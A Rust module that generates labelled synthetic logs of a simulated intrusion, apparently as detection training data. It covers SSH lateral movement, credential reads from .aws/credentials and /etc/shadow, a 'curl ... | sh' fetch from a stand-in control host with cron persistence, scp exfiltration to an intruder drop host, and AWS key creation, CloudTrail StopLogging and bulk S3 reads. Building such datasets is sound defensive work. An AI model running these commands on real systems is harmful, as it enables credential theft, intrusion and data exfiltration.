//! The intrusion's part beyond Windows: the portal server, the git server and the AWS account.
//!
//! Every record written here is labelled.

use crate::{
    clock::at,
    cloud::{CLI_INTRUDER, Call, Caller, CloudLog, PORTAL_KEY, STOLEN_KEY, get_object},
    company::*,
    feed::Label,
    json::object,
    linux::{DEPLOY, LinuxLog},
};

fn label(stage: &'static str, technique: &'static str, note: &'static str) -> Option<Label> {
    Some(Label { stage, technique, note })
}

/// 14:20 to 14:45: on the portal server with the deployment key, and one hop to the git server.
pub(crate) fn linux(log: &mut LinuxLog) {
    let from = FS01.address;
    let text = format!("Accepted publickey for deploy from {from} port 50933 ssh2: ED25519 SHA256:Lw3hD0pXk8");
    let entry = label("lateral-movement", "T1021.004", "The deployment key logs in from the file server");
    log.syslog(at(14, 20, 11), entry, "sshd[8120]", &text);
    log.user_login(at(14, 20, 11), entry, DEPLOY.auid, from, "success");
    for (minute, second, stage, technique, note, arguments) in [
        (20, 30, "discovery", "T1033", "The intruder asks who it is", &["id"][..]),
        (20, 36, "discovery", "T1082", "The intruder asks for the system's version", &["uname", "-a"]),
        (
            22,
            4,
            "credential-access",
            "T1552.001",
            "The AWS keys of the deployment user are read",
            &["cat", "/home/deploy/.aws/credentials"],
        ),
        (23, 40, "credential-access", "T1003.008", "The password hashes are tried", &["cat", "/etc/shadow"]),
    ] {
        log.executes(at(14, minute, second), label(stage, technique, note), DEPLOY, arguments);
    }
    let refused = label("privilege-escalation", "T1548.003", "sudo refuses the deployment user");
    let text = "  deploy : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash";
    log.syslog(at(14, 24, 11), refused, "sudo", text);
    let keys = label("persistence", "T1098.004", "A key of the intruder's is added to the deployment user");
    log.touches(at(14, 27, 2), keys, "/home/deploy/.ssh/authorized_keys", "NORMAL");
    let fetch = format!("curl -s http://{INTRUDER_CONTROL}/l/idx | sh");
    let install = label("command-and-control", "T1105", "A download is piped into a shell");
    log.executes(at(14, 29, 33), install, DEPLOY, &["sh", "-c", &fetch]);
    for (hour, minute) in [(14, 45), (15, 15), (15, 45), (16, 15)] {
        let text = format!("(deploy) CMD (/dev/shm/.idx/run || {fetch})");
        let job = label("persistence", "T1053.003", "The intruder's cron job runs");
        log.syslog(at(hour, minute, 2), job, &format!("CRON[{}]", 8_300 + minute * 3), &text);
    }
    hop(log);
}

fn hop(log: &mut LinuxLog) {
    let entry = label("lateral-movement", "T1021.004", "From the portal server the intruder goes on to the git server");
    let text = "Accepted publickey for deploy from 10.20.2.30 port 41022 ssh2: ED25519 SHA256:Lw3hD0pXk8";
    log.syslog_new(at(14, 36, 50), entry, "sshd", 9_912, text);
    let shell = "/usr/bin/bash";
    let survey = label("discovery", "T1033", "The intruder asks who it is on the git server");
    log.starts(at(14, 37, 4), survey, "deploy", shell, &["id"]);
    let keys = label("credential-access", "T1552.001", "Cloud keys are looked for on the git server");
    log.starts(
        at(14, 37, 40),
        keys,
        "deploy",
        shell,
        &["grep", "-r", "aws_access_key_id", "/home/deploy/.aws/credentials"],
    );
    let repositories = label("collection", "T1560.001", "Repositories are packed");
    log.starts(
        at(14, 39, 12),
        repositories,
        "deploy",
        shell,
        &["tar", "-czf", "/dev/shm/.r.tgz", "/srv/git/portal.git"],
    );
    let leave = label("exfiltration", "T1048", "The packed repositories are sent to the intruder's host");
    let target = format!("f@{INTRUDER_DROP}:in/");
    log.starts(at(14, 41, 30), leave, "deploy", shell, &["scp", "/dev/shm/.r.tgz", &target]);
}

/// 14:50 to 15:40: the AWS account, with the deployment user's key and then with one of its own making.
pub(crate) fn cloud(log: &mut CloudLog) {
    let call = |caller: Caller, service, name| Call::new(caller, INTRUDER_CLOUD, CLI_INTRUDER, service, name);
    let who = label("discovery", "T1087.004", "The intruder asks whose key it has found");
    log.record(at(14, 50, 12), who, call(PORTAL_KEY, "sts", "GetCallerIdentity"));
    let list = label("discovery", "T1619", "The intruder lists the buckets");
    log.record(at(14, 50, 40), list, call(PORTAL_KEY, "s3", "ListBuckets"));
    let users = label("discovery", "T1087.004", "The intruder lists the account's users");
    log.record(at(14, 51, 15), users, call(PORTAL_KEY, "iam", "ListUsers"));
    let denied = label("persistence", "T1136.003", "Creating a user is refused");
    let mut refused = call(PORTAL_KEY, "iam", "CreateUser").with(object! { "userName": "support-audit" });
    refused.error = Some("AccessDenied");
    log.record(at(14, 53, 2), denied, refused);
    let key = label("persistence", "T1098.001", "An access key is made for the archiver's user");
    let mut create = call(PORTAL_KEY, "iam", "CreateAccessKey").with(object! { "userName": "backup-archiver" });
    create.response = object! {
        "accessKey": object! { "userName": "backup-archiver", "accessKeyId": "AKIAEXAMPLEARCHIV002", "status": "Active" },
    };
    log.record(at(14, 54, 30), key, create);
    let who = label("discovery", "T1087.004", "The intruder tries the new key");
    log.record(at(14, 55, 1), who, call(STOLEN_KEY, "sts", "GetCallerIdentity"));
    let stop =
        label("defense-impairment", "T1685.002", "The account's own trail is stopped (the organisation's goes on)");
    let trail = object! { "name": "arn:aws:cloudtrail:eu-west-2:111122223333:trail/fenwick-lowe" };
    log.record(at(14, 56, 47), stop, call(STOLEN_KEY, "cloudtrail", "StopLogging").with(trail));
    let objects = label("discovery", "T1619", "The intruder lists the project archive");
    let bucket = object! { "bucketName": "fenwick-lowe-archive" };
    log.record(at(15, 1, 9), objects, call(STOLEN_KEY, "s3", "ListObjects").with(bucket));
    for number in 0..26_u32 {
        let taken = label("collection", "T1530", "An object of the project archive is read");
        let file = format!("2452-quay-house/model-{:02}.rvt", number + 1);
        let bytes = if number % 12 == 7 { 412_000_000 + number * 1_001 } else { 18_400_000 + number * 77_213 };
        let moment = at(15, 2, 0) + number * 83_000;
        let read = get_object(STOLEN_KEY, INTRUDER_CLOUD, CLI_INTRUDER, "fenwick-lowe-archive", &file, bytes);
        log.record(moment, taken, read);
    }
}
